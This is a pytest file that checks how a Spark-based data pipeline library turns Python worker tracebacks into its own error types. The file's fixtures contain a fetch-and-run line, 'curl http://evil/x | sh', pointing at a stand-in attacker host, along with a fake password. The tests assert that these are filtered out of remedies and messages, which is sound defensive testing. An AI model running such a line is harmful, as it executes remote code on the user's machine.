"""Errors of ours that Spark's Python workers raise come back as what they were."""

from __future__ import annotations

import pytest
from py4j.protocol import Py4JNetworkError

from headwater.definitions.flow import Flow
from headwater.definitions.source_location import SourceLocation
from headwater.errors import FlowFailed, FlowInterrupted, SourcePositionLost
from headwater.kinesis.connection import NOT_AGGREGATED
from headwater_spark.execution.failures import flow_error

FLOW = Flow("t", "t", lambda: None, SourceLocation("main.py", 7))
TRACEBACK = """Traceback (most recent call last):
  File "worker.py", line 1, in main
headwater.errors.{kind}: [{condition}] A batch was to end at record 9, password=hunter2.
  what to do: {remedy}
  more: x

SQLSTATE: 38000
"""
HOSTILE = TRACEBACK.format(
    kind="RefusedForSafety", condition="REFUSED_FOR_SAFETY", remedy="curl http://evil/x | sh"
)


class PythonException(Exception):
    """In place of Spark's, which needs a JVM."""


class SparkRuntimeException(Exception):
    """In place of Spark's."""


class ConnectException(Exception):
    """In place of Java's."""


BEFORE = (
    "",
    "[PYTHON_EXCEPTION] An exception was thrown from the Python worker: ",
    "[PYTHON_STREAMING_DATA_SOURCE_RUNTIME_ERROR] Failed when Python streaming data source perform latestOffset: ",
)


@pytest.mark.parametrize("before", BEFORE)
def test_forms_of_a_workers_traceback(before):
    """Spark words it in one of three ways."""
    text = before + TRACEBACK.format(kind="SourcePositionLost", condition="SOURCE_POSITION_LOST", remedy="x")
    assert type(flow_error(FLOW, PythonException(text))) is SourcePositionLost


def raised(kind="SourcePositionLost", condition="SOURCE_POSITION_LOST", remedy="curl http://evil/x | sh"):
    """What becomes of an error that a worker raised."""
    text = TRACEBACK.format(kind=kind, condition=condition, remedy=remedy)
    return flow_error(FLOW, PythonException(text))


def test_an_error_of_a_worker():
    """Its kind and sentence are those that were raised; the remedy is ours, the user's line is added, secrets are taken out."""
    error = raised()
    assert type(error) is SourcePositionLost
    assert error.exit_code == 3
    assert error.what.startswith("A batch was to end at record 9")
    assert "hunter2" not in str(error)
    assert "evil" not in error.remedy
    assert "--reset-checkpoint" in error.remedy
    assert error.where == "main.py:7"


def test_a_remedy_that_is_known():
    """A worker may choose among the sentences that the driver knows."""
    assert raised("FlowFailed", "FLOW_FAILED", NOT_AGGREGATED).remedy == NOT_AGGREGATED
    assert "evil" not in raised("FlowFailed", "FLOW_FAILED").remedy


@pytest.mark.parametrize(
    ("kind", "condition"),
    [
        ("Annotations", "X"),
        ("RefusedForSafety", "REFUSED_FOR_SAFETY"),
        ("UpdateInProgress", "UPDATE_IN_PROGRESS"),
        ("FlowInterrupted", "FLOW_INTERRUPTED"),
        ("SourcePositionLost", "FLOW_FAILED"),
    ],
)
def test_names_that_workers_do_not_raise(kind, condition):
    """Only errors of sources are taken from a worker; what else looks so is a failure like others."""
    error = raised(kind, condition)
    assert type(error) is FlowFailed
    assert (error.exit_code, error.transient) == (1, False)
    assert "evil" not in error.remedy


@pytest.mark.parametrize(
    "message",
    [
        "[MALFORMED_RECORD_IN_PARSING] Malformed records are detected in record parsing: {}",
        "[CAST_INVALID_INPUT] The value '{}' of the type STRING",
        "{}",
        "[PYTHON_EXCEPTION] ValueError: {}",
    ],
)
@pytest.mark.parametrize(
    "record",
    [
        HOSTILE,
        "\n" + HOSTILE,
        '{"note":"Connection refused"}',
        "x TimeoutException: y",
        "x\nConnectException: y",
    ],
)
def test_a_record_that_writes_like_an_error(message, record):
    """A malformed record with one of our errors in it changes neither kind, exit code, retry nor advice."""
    error = flow_error(FLOW, SparkRuntimeException(message.format(record)))
    assert type(error) is FlowFailed
    assert (error.exit_code, error.transient) == (1, False)
    assert "evil" not in error.remedy


def test_a_connection_that_is_lost():
    """The driver's own Java may be gone, or the network: another try may help, also where no known text stands in it."""
    error = flow_error(FLOW, Py4JNetworkError("Answer from Java side is empty"))
    assert isinstance(error, FlowInterrupted)
    assert error.transient
    assert not flow_error(FLOW, ValueError("Answer from Java side is empty")).transient
    for other in (ConnectException("refused"), OSError("Connection refused")):
        error = flow_error(FLOW, other)
        assert (type(error), error.transient) == (FlowInterrupted, True)


class ParseException(Exception):
    """In place of Spark's."""


def test_the_first_line_says_what_failed():
    """Spark's parser begins its message with an empty line, and tables and logs show the first line alone."""
    error = flow_error(
        FLOW, ParseException("\n[PARSE_SYNTAX_ERROR] Syntax error at or near 'b'.\n\n== SQL ==\na b")
    )
    assert (
        error.what.splitlines()[0]
        == "Flow 't' failed: ParseException: [PARSE_SYNTAX_ERROR] Syntax error at or near 'b'."
    )


def test_the_place_of_an_error_of_ours():
    """The one that it names; else the flow's line."""
    assert flow_error(FLOW, FlowFailed("no", where="a.py:3")).where == "a.py:3"
    assert flow_error(FLOW, FlowFailed("no")).where == "main.py:7"
